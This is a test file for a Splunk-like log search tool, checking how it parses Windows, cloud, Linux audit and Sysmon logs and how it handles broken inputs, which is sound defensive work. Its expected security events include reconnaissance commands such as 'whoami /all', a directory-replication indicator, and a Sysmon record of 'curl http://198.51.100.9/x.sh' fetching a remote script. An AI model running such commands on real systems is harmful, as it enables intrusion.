/**
 * Every input format, read end to end (reader → extraction → add-on
 * settings), over the fixtures written for them (fixtures/events/README.md),
 * and the broken inputs: truncated XML, a binary blob, invalid UTF-8, an
 * empty file, a 5 MB line, corrupt gzip.
 */
import { mkdtemp, readFile, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { compile, run } from '../../src/api.js';
import { rowObject } from '../../src/cli/output.js';
import { collect } from '../../src/engine/types.js';
import type { EventInput } from '../../src/engine/source.js';
import { expandInputs } from '../../src/io/inputs.js';
import { readEvents } from '../../src/io/readers/index.js';
import type { RawEvent, ReadProblem } from '../../src/io/types.js';

const ROOT = path.resolve(__dirname, '../..');
const FIX = path.join(ROOT, 'fixtures/events');
const now = Date.parse('2024-06-01T00:00:00Z') / 1000;

type Obj = Record<string, unknown>;

async function search(text: string, inputs: EventInput[]): Promise<{ rows: Obj[]; problems: ReadProblem[] }> {
  const compiled = compile(text, { macros: new Map(), now, tz: 'UTC' });
  expect(compiled.diagnostics).toEqual([]);
  const problems: ReadProblem[] = [];
  const rows = await collect(run(compiled.plan!, { inputs, onProblem: (p) => problems.push(p) }, { now, tz: 'UTC', notify: () => {} }));
  return { rows: rows.map((r) => rowObject(r, 'UTC') as Obj), problems };
}

async function fixture(name: string, extra: Partial<EventInput> = {}): Promise<EventInput[]> {
  const files = await expandInputs([path.join(FIX, name)]);
  return files.map((file) => ({ file: extra.sourcetype ? { ...file, sourcetype: extra.sourcetype } : file, ...extra }));
}

async function tmp(name: string, content: string | Buffer): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'splinter-formats-'));
  const p = path.join(dir, name);
  await writeFile(p, content);
  return p;
}

async function rawEvents(p: string): Promise<{ events: RawEvent[]; problems: ReadProblem[] }> {
  const events: RawEvent[] = [];
  const problems: ReadProblem[] = [];
  for await (const e of readEvents({ path: p, mtime: 1700000000 }, (x) => problems.push(x))) events.push(e);
  return { events, problems };
}

describe('Windows files mixing one-line XML, multi-line XML and classic records', () => {
  it('splits every record, skips the # comment, and names source/sourcetype per channel', async () => {
    const { rows, problems } = await search('search * | sort _time | table _time sourcetype source host EventCode', await fixture('windows_mixed.log'));
    expect(problems).toEqual([]);
    // fixtures/events/README.md, windows_mixed.log: 6 XML events and one classic record
    expect(rows).toEqual([
      { _time: '2024-05-14T10:00:00.123+00:00', sourcetype: 'XmlWinEventLog', source: 'XmlWinEventLog:Security', host: 'DC-01.corp.example.com', EventCode: '4688' },
      { _time: '2024-05-14T10:01:00.000+00:00', sourcetype: 'XmlWinEventLog', source: 'XmlWinEventLog:Security', host: 'DC-01.corp.example.com', EventCode: '4662' },
      { _time: '2024-05-14T10:02:00.000+00:00', sourcetype: 'WinEventLog', source: 'WinEventLog:Security', host: 'DC-01.corp.example.com', EventCode: '4624' },
      { _time: '2024-05-14T10:03:00.000+00:00', sourcetype: 'XmlWinEventLog', source: 'XmlWinEventLog:Microsoft-Windows-PowerShell/Operational', host: 'DC-01.corp.example.com', EventCode: '4104' },
      { _time: '2024-05-14T10:04:00.000+00:00', sourcetype: 'XmlWinEventLog', source: 'XmlWinEventLog:System', host: 'DC-01.corp.example.com', EventCode: '7045' },
      { _time: '2024-05-14T10:05:00.000+00:00', sourcetype: 'XmlWinEventLog', source: 'XmlWinEventLog:Microsoft-Windows-Windows Defender/Operational', host: 'DC-01.corp.example.com', EventCode: '1116' },
      { _time: '2024-05-14T10:06:00.000+00:00', sourcetype: 'XmlWinEventLog', source: 'XmlWinEventLog:Microsoft-Windows-TaskScheduler/Operational', host: 'DC-01.corp.example.com', EventCode: '106' },
    ]);
  });

  it('gives Security events the Windows add-on fields (cim-datamodels.md §4.3)', async () => {
    const { rows } = await search(
      'search source="XmlWinEventLog:Security" | sort _time | table EventCode dest user src_user process process_name parent_process_name process_id parent_process_id action status signature signature_id name Logon_ID session_id',
      await fixture('windows_mixed.log'),
    );
    expect(rows).toEqual([
      {
        // 4688: user falls back to the subject because TargetUserName is "-"; process_id is NewProcessId, parent_process_id ProcessId
        EventCode: '4688',
        dest: 'DC-01.corp.example.com',
        user: 'DC-01$',
        src_user: 'DC-01$',
        // the first token of CommandLine is not a path: the image and the arguments
        process: 'C:\\Windows\\System32\\cmd.exe /c whoami',
        process_name: 'cmd.exe',
        parent_process_name: 'explorer.exe',
        process_id: '0x1a2c',
        parent_process_id: '0x4d0',
        action: 'allowed',
        status: 'success',
        signature: 'A new process has been created',
        signature_id: '4688',
        name: 'A new process has been created',
        Logon_ID: '0x3e7',
        session_id: '0x3e7',
      },
      {
        // 4662: no target user, src_user is the subject
        EventCode: '4662',
        dest: 'DC-01.corp.example.com',
        src_user: 'jdoe',
        action: 'success',
        status: 'success',
        signature: 'An operation was performed on an object',
        signature_id: '4662',
        name: 'An operation was performed on an object',
        Logon_ID: '0x5a1b2c',
        session_id: '0x5a1b2c',
      },
    ]);
  });

  it('keeps a multi-line Data value with its line breaks (Properties of the 4662)', async () => {
    const { rows } = await search('search EventCode=4662 Properties="*Replicating Directory Changes All*" | table Properties AccessMask', await fixture('windows_mixed.log'));
    expect(rows).toEqual([{ Properties: '%%7688\n\t\tReplicating Directory Changes All\n\tdomainDNS\n', AccessMask: '0x100' }]);
  });

  it('extracts classic WinEventLog header and message fields, a repeated name as a multivalue', async () => {
    const { rows } = await search('search sourcetype=WinEventLog | table LogName EventCode RecordNumber Account_Name Logon_Type Source_Network_Address Keywords', await fixture('windows_mixed.log'));
    expect(rows).toEqual([
      {
        LogName: 'Security',
        EventCode: '4624',
        RecordNumber: '1003',
        Account_Name: ['DC-01$', 'jdoe'],
        Logon_Type: '3',
        Source_Network_Address: '10.0.0.7',
        Keywords: 'Audit Success',
      },
    ]);
  });

  it('decodes a JSON string holding XML events', async () => {
    const { rows, problems } = await search('search * | sort _time | table _time EventCode CommandLine user', await fixture('sysmon_jsonstring.log'));
    expect(problems).toEqual([]);
    expect(rows).toEqual([
      { _time: '2024-05-14T11:00:00.001+00:00', EventCode: '1', CommandLine: 'whoami /all', user: 'jdoe' },
      { _time: '2024-05-14T11:00:05.002+00:00', EventCode: '1', CommandLine: 'whoami /priv', user: 'jdoe' },
    ]);
  });
});

describe('JSON sourcetypes', () => {
  const cases: [string, string, string[]][] = [
    // file, detected sourcetype, _time of each event in file order (from the add-on's time field)
    ['cloudtrail.json', 'aws:cloudtrail', ['2024-05-14T12:00:00.000+00:00', '2024-05-14T12:05:30.000+00:00']],
    ['o365.jsonl', 'o365:management:activity', ['2024-05-14T13:00:00.000+00:00', '2024-05-14T13:10:00.000+00:00']],
    ['okta.json', 'OktaIM2:log', ['2024-05-14T14:00:00.000+00:00', '2024-05-14T14:00:05.250+00:00']],
    ['crowdstrike.jsonl', 'crowdstrike:events:sensor', ['2024-05-14T15:00:00.123+00:00']],
    ['azure_aad.jsonl', 'azure:monitor:aad', ['2024-05-14T16:00:00.123+00:00']],
  ];
  for (const [name, sourcetype, times] of cases) {
    it(`${name}: sourcetype ${sourcetype} and _time from its add-on's field`, async () => {
      const { rows, problems } = await search('search * | sort _time | table _time sourcetype', await fixture(name));
      expect(problems).toEqual([]);
      expect(rows).toEqual(times.map((t) => ({ _time: t, sourcetype })));
    });
  }

  it('names Google Workspace sourcetypes by application', async () => {
    const { rows } = await search('search * | sort _time | table sourcetype actor.email', await fixture('gws_admin.jsonl'));
    expect(rows).toEqual([
      { sourcetype: 'gws:reports:admin', 'actor.email': 'admin@example.com' },
      { sourcetype: 'gws:reports:login', 'actor.email': 'bob@example.com' },
    ]);
  });

  it('reads a pretty-printed array with brackets inside strings, fields flattened', async () => {
    const { rows } = await search('search eventName=PutBucketPolicy | table requestParameters.note userIdentity.userName', await fixture('cloudtrail.json'));
    expect(rows).toEqual([{ 'requestParameters.note': 'a } and a ] inside a string', 'userIdentity.userName': 'alice' }]);
  });

  it('keeps a given sourcetype and reads its time field', async () => {
    const { rows } = await search('search * | table sourcetype _time', await fixture('o365.jsonl', { sourcetype: 'o365:management:activity' }));
    expect(rows.map((r) => r.sourcetype)).toEqual(['o365:management:activity', 'o365:management:activity']);
  });

  it('reports a JSON object cut off at the end of a file, keeping the complete ones', async () => {
    const p = await tmp('cut.json', '[\n {"a": 1},\n {"b": {"c": 2}\n');
    const { events, problems } = await rawEvents(p);
    expect(events.map((e) => e.line)).toEqual([2]);
    expect(problems.map((x) => [x.line, x.reason])).toEqual([[3, 'JSON object is not closed: the file ends inside it; skipped']]);
  });
});

describe('text sourcetypes', () => {
  it('linux:audit: _time from msg=audit(...), key=value fields, pairs inside msg=\'...\'', async () => {
    const { rows } = await search('search * | sort _time | table _time sourcetype type a0 acct exe res', await fixture('linux_audit.log'));
    expect(rows).toEqual([
      { _time: '2024-05-14T15:20:00.123+00:00', sourcetype: 'linux:audit', type: 'SYSCALL', a0: '55d1', exe: '/usr/bin/sudo' },
      { _time: '2024-05-14T15:20:00.123+00:00', sourcetype: 'linux:audit', type: 'EXECVE', a0: 'sudo' },
      { _time: '2024-05-14T15:20:01.500+00:00', sourcetype: 'linux:audit', type: 'USER_ACCT', acct: 'jdoe', exe: '/usr/bin/sudo', res: 'success' },
    ]);
  });

  it('sysmon:linux: the XML inside a syslog line, double-quoted attributes', async () => {
    const { rows } = await search('search * | table _time sourcetype source host EventCode Image CommandLine', await fixture('sysmon_linux.log'));
    expect(rows).toEqual([
      {
        _time: '2024-05-14T17:00:00.249+00:00',
        sourcetype: 'sysmon:linux',
        source: 'Syslog:Linux-Sysmon/Operational',
        host: 'web-01',
        EventCode: '1',
        Image: '/usr/bin/curl',
        CommandLine: 'curl http://198.51.100.9/x.sh',
      },
    ]);
  });

  it('KV_MODE=auto on plain text; no timestamp → the file time', async () => {
    const files = await expandInputs([path.join(FIX, 'kv.log')]);
    const file = { ...files[0], mtime: 1715000000 };
    const { rows } = await search('search * | table _time action src user port status note', [{ file }]);
    expect(rows).toEqual([
      { _time: '2024-05-14T18:00:00.000+00:00', action: 'blocked', src: '10.0.0.7', user: 'j doe', port: '445' },
      { _time: '2024-05-06T12:53:20.000+00:00', status: 'ok', note: 'quoted, with comma' },
    ]);
  });
});

describe('broken and unusual inputs', () => {
  it('reads gzip-compressed files whatever their name', async () => {
    const text = await readFile(path.join(FIX, 'o365.jsonl'));
    const p = await tmp('o365.log', gzipSync(text));
    const { events, problems } = await rawEvents(p);
    expect(problems).toEqual([]);
    expect(events.map((e) => e.line)).toEqual([1, 2]);
  });

  it('reports corrupt gzip data and keeps what was read', async () => {
    const gz = gzipSync(Buffer.from('{"a":1}\n'.repeat(1000)));
    const p = await tmp('cut.gz', gz.subarray(0, gz.length - 20));
    const { problems } = await rawEvents(p);
    expect(problems).toHaveLength(1);
    expect(problems[0].reason).toMatch(/^gzip data is corrupt or cut off/);
  });

  it('skips a binary blob with one problem, as Splunk does not index binary files', async () => {
    const blob = Buffer.alloc(4096);
    for (let i = 0; i < blob.length; i++) blob[i] = (i * 131 + 7) % 256;
    const p = await tmp('blob.bin', blob);
    const { events, problems } = await rawEvents(p);
    expect(events).toEqual([]);
    expect(problems.map((x) => [x.line, x.reason])).toEqual([[1, 'the file looks binary (NUL bytes in its first 4 KB): not read, as Splunk skips binary files']]);
  });

  it('reports invalid UTF-8 per line and keeps the event', async () => {
    const p = await tmp('latin1.log', Buffer.concat([Buffer.from('user=Jos'), Buffer.from([0xe9]), Buffer.from(' action=login\n')]));
    const { events, problems } = await rawEvents(p);
    expect(events.map((e) => e.raw)).toEqual(['user=Jos\uFFFD action=login']);
    expect(problems.map((x) => [x.line, x.reason])).toEqual([[1, 'invalid UTF-8 bytes, shown as U+FFFD']]);
  });

  it('reads a 5 MB line as one event', async () => {
    const big = 'x'.repeat(5 * 1024 * 1024);
    const p = await tmp('big.jsonl', `{"a":"${big}"}\n{"b":1}\n`);
    const { events, problems } = await rawEvents(p);
    expect(problems).toEqual([]);
    expect(events.map((e) => e.raw.length)).toEqual([big.length + 8, 7]);
  });

  it('reports a truncated XML event at the end of a file', async () => {
    const p = await tmp('cut.xml', "<Event xmlns='x'><System><EventID>1</EventID></System></Event>\n<Event xmlns='x'><System><EventID>2</Even");
    const { events, problems } = await rawEvents(p);
    expect(events).toHaveLength(1);
    expect(problems.map((x) => [x.line, x.reason])).toEqual([[2, '<Event> is not closed: the file ends before </Event>; event skipped']]);
  });

  it('reads an empty file as nothing', async () => {
    const p = await tmp('empty.log', '');
    expect(await rawEvents(p)).toEqual({ events: [], problems: [] });
  });
});

describe('CLI input options', () => {
  // in process (test/support/cli.ts): no node start-up per test
  const cli = async (args: string[]) => {
    const r = await runCli(...args);
    return { status: r.code, stdout: r.out, stderr: r.err };
  };

  it('a dangling link inside an -e folder is reported and the run goes on; --strict makes it exit 1', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'splinter-folder-'));
    await writeFile(path.join(dir, 'a.log'), '2024-06-01T10:00:00Z a=1\n');
    await symlink(path.join(dir, 'gone.log'), path.join(dir, 'b.log'));
    const r = await cli(['run', 'a=1 | stats count', '-e', dir, '-o', 'json']);
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([{ count: 1 }]);
    expect(r.stderr).toContain(`warning: skipped ${path.join(dir, 'b.log')}: cannot follow this link`);
    const strict = await cli(['run', 'a=1 | stats count', '-e', dir, '-o', 'json', '--strict']);
    expect(strict.status).toBe(1);
    expect(strict.stderr).toMatch(/error: --strict: an input could not be read: .*b\.log/);
  });

  it('an impossible timestamp gets the file time and a warning naming it', async () => {
    const p = await tmp('dates.jsonl', '{"timestamp":"2024-02-30T00:00:00Z","a":1}\n{"timestamp":"2024-06-01T00:00:00Z","a":2}\n');
    const r = await cli(['run', '* | stats count', '-e', p, '-o', 'json']);
    expect(r.status).toBe(0);
    expect(r.stderr).toContain(`warning: ${p}: 1 event has an impossible timestamp (first: timestamp "2024-02-30T00:00:00Z": day 30 does not exist in 2024-02)`);
  });

  it('reads an inputs file with per-input sourcetype, source and host', async () => {
    const r = await cli(['run', 'search * | stats count by sourcetype source host', '--inputs', 'fixtures/events/inputs.txt', '-o', 'json', '--tz', 'UTC']);
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([
      { sourcetype: 'app:kv', source: 'app.log', host: 'app-01', count: 2 },
      // relative paths in an inputs file are relative to its folder
      { sourcetype: 'linux:audit', source: 'fixtures/events/linux_audit.log', host: expect.any(String), count: 3 },
    ]);
  });

  it('-e path:sourcetype=X:host=Y, and --verbose shows how each file was read', async () => {
    const r = await cli(['run', 'search * | stats count by sourcetype host', '-e', 'fixtures/events/kv.log:sourcetype=app:kv:host=h1', '-e', 'fixtures/events/windows_mixed.log', '-o', 'json', '--verbose']);
    expect(r.status).toBe(0);
    const out = JSON.parse(r.stdout) as Obj[];
    expect(out.find((x) => x.sourcetype === 'app:kv')).toEqual({ sourcetype: 'app:kv', host: 'h1', count: 2 });
    expect(r.stderr).toContain('splinter: fixtures/events/windows_mixed.log: read as XmlWinEventLog, sourcetype XmlWinEventLog (6), WinEventLog (1); 7 events, 0 skipped, 1 comment line ignored');
    expect(r.stderr).toMatch(/notice: fixtures\/events\/kv\.log: 1 event has no timestamp/);
  });

  it('reports the first 20 unreadable records in full, then a count, and a per-file line', async () => {
    const p = await tmp('bad.jsonl', Array.from({ length: 25 }, (_, i) => `{"ok":${i}}\n[1]`).join('\n') + '\n');
    const r = await cli(['run', 'search *', '-e', p, '-o', 'json']);
    expect(r.status).toBe(0);
    expect(r.stderr.split('\n').filter((l) => l.startsWith('warning: skipped'))).toHaveLength(20);
    expect(r.stderr).toContain('warning: 5 more unreadable lines or records not shown');
    expect(r.stderr).toContain('; 25 events, 25 skipped');
    const strict = await cli(['run', 'search *', '-e', p, '-o', 'json', '--strict']);
    expect(strict.status).toBe(1);
  });
});
